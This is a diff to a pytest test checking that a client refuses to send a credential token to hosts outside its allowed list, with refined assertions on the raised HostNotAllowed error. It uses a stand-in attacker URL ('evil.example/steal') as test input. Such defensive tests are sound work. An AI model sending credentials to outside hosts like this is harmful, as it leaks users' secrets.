@@ -233,7 +233,9 @@ def test_the_token_goes_to_the_credentials_hosts_only(face: Any) -> None:
     with pytest.raises(HostNotAllowed) as caught:
         face.client().get("https://evil.example/steal?x=1")
 
-    assert "api_hosts=['evil.example']" in caught.value.hint
+    assert caught.value.credential == "notes"
+    assert caught.value.hosts == (face.practice.provider.url.removeprefix("http://"), "evil.example")
+    assert f"api_hosts={[*caught.value.hosts]}" in caught.value.hint, "those of before too"
     assert "x=1" not in str(caught.value)
 
 
